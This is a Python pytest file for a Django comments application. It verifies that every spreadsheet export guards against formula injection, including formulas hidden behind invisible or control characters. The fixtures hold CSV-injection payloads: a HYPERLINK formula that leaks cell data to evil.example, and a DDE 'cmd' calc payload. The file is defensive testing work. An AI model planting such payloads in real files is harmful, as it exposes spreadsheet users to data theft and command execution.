"""Formulas hidden behind characters a spreadsheet skips come out guarded in every file a
spreadsheet opens: comments.csv (open data), the live matrix CSV, the digest's matrix (CSV and
Excel) and the rejected rows of a bulk upload."""

import csv
import io
import unicodedata

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from comments import bulk_files
from comments.digests import services as digest_services
from comments.digests.models import Digest
from comments.models import BulkRejection, BulkSubmission, Comment
from tests.comments.factories import open_version, representative_of, submit, verified_organisation

pytestmark = pytest.mark.django_db

FORMULA = ("=", "+", "-", "@")
# Allowed in a comment today: an invisible format character before the formula.
FILED_BODY = '\u200b=HYPERLINK("http://evil.example/?leak="&A1,"Read more")'
FILED_PROPOSED = "\u2060+cmd|' /C calc'!A0"
# Filed before comments refused control characters: still in the database, still exported.
OLD_BODY = '\x01=HYPERLINK("http://evil.example","click")'
OLD_PROPOSED = "\x1f\x1f-2+3"
ORGANISATION = "\u200e@SUM(1+1)*cmd"


def _as_read(cell: str) -> str:
    """The cell as a spreadsheet reads it once leading spaces, control and invisible format
    characters are dropped."""
    index = 0
    while index < len(cell) and (
        cell[index].isspace() or unicodedata.category(cell[index]) in ("Cc", "Cf")
    ):
        index += 1
    return cell[index:]


@pytest.fixture
def crafted():
    version = open_version(slug="haip", sections=3, lines_per_section=3)
    organisation = verified_organisation(name=ORGANISATION)
    author = representative_of(organisation)
    filed = submit(
        version=version,
        author=author,
        organisation=organisation,
        line_start=4,
        body=FILED_BODY,
        proposed_text=FILED_PROPOSED,
    )
    old = submit(version=version, author=author, line_start=5)
    Comment.objects.filter(pk=old.pk).update(body=OLD_BODY, proposed_text=OLD_PROPOSED)
    return {"version": version, "filed": filed.reference, "old": old.reference}


def _rows(text: str) -> dict[str, list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    return {row[0]: row for row in rows[1:]}


def _assert_guarded(rows: dict[str, list[str]], crafted: dict, *, columns: dict[str, int]):
    filed, old = rows[crafted["filed"]], rows[crafted["old"]]
    assert filed[columns["body"]] == "'" + FILED_BODY
    assert filed[columns["proposed"]] == "'" + FILED_PROPOSED
    assert filed[columns["organisation"]] == "'" + ORGANISATION
    assert old[columns["body"]] == "'" + OLD_BODY
    assert old[columns["proposed"]] == "'" + OLD_PROPOSED
    for row in rows.values():
        for cell in row:
            assert not cell.startswith(("\t", "\r"))
            assert not _as_read(cell).startswith(FORMULA), cell


def test_open_data_csv_guards_them(client, crafted):
    response = client.get(reverse("comments:open_data", args=["haip", 1, "csv"]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    _assert_guarded(_rows(text), crafted, columns={"body": 7, "proposed": 8, "organisation": 9})


def test_the_live_matrix_csv_guards_them(secretariat_client, crafted):
    response = secretariat_client.get(reverse("comments:matrix_download", args=["haip", 1]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    _assert_guarded(_rows(text), crafted, columns={"body": 6, "proposed": 7, "organisation": 1})


def test_the_digest_matrix_files_guard_them(
    crafted, secretariat_user, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        digest = digest_services.digest_request(
            user=secretariat_user, version=crafted["version"], audience="public"
        )
    digest.refresh_from_db()
    assert digest.status == Digest.Status.READY, digest.error
    text = digest.exports.get(format="matrix.csv").file.open("rb").read().decode()
    _assert_guarded(_rows(text), crafted, columns={"body": 6, "proposed": 7, "organisation": 1})
    with digest.exports.get(format="matrix.xlsx").file.open("rb") as handle:
        sheet = load_workbook(handle).active
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}  # no formula ("f")
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    # Excel cannot hold control characters: they are dropped, and the guard still applies.
    assert {"'" + FILED_BODY, "'" + OLD_BODY.lstrip("\x01"), "'" + ORGANISATION} <= texts
    assert not any(_as_read(value).startswith(FORMULA) for value in texts)


def test_the_rejections_csv_of_an_upload_guards_them(crafted):
    submission = BulkSubmission.objects.create(
        version=crafted["version"],
        owner=Comment.objects.get(reference=crafted["filed"]).author,
        file_name="comments.jsonl",
        format=BulkSubmission.Format.JSONL,
        rows_total=1,
    )
    BulkRejection.objects.create(
        submission=submission, line=1, errors={"\x01=field": ["\u200b=1+1 is not a line"]}
    )
    rows = list(csv.reader(io.StringIO("".join(bulk_files.rejections_csv(submission)))))
    assert rows[1] == ["1", "'\x01=field", "'\u200b=1+1 is not a line"]
